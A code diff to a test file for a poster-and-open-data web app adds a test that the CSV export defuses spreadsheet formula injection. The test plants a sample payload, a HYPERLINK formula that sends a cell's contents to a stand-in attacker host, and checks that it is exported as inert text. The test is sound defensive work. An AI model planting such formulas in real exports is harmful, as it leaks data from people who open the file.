@@ -1,6 +1,8 @@
 """Posters: who writes which space, the assemblies' edition and publication, the public atlas without
 login, open data, and the print-ready PDF checked by its text."""
 
+import csv
+import io
 import json
 import subprocess
 import uuid
@@ -125,6 +127,19 @@ def test_open_data_as_csv_and_json(app, atlas):
     assert poster["theme"] == "Solidarités" and poster["url"].endswith("/atlas/solidarites")
     assert [p["title"] for p in poster["selection"]["projects"]] == PROJECTS[:3]
     assert poster["selection"]["challenges"] == CHALLENGES and poster["budget"][-1]["share"] == 0.7
+
+
+def test_open_data_csv_never_serves_a_live_formula(app, atlas):
+    # OWASP CSV injection: a theme named like a formula is shown as text by the spreadsheet.
+    w, posters = atlas
+    _publish(posters["Solidarités"], w)
+    posters["Solidarités"].theme.name = '=HYPERLINK("https://evil.example/?"&A1;"Détails")'
+    db.session.commit()
+    body = app.test_client().get("/atlas/donnees/budget.csv").get_data(as_text=True).lstrip("\ufeff")
+    rows = list(csv.reader(io.StringIO(body), delimiter=";"))
+    themes = {row[1] for row in rows[1:]}
+    assert '\'=HYPERLINK("https://evil.example/?"&A1;"Détails")' in themes
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
 
 
 def test_the_pdf_has_one_a3_poster_per_theme_with_its_theme_members_and_three_projects(app, make, atlas, tmp_path):
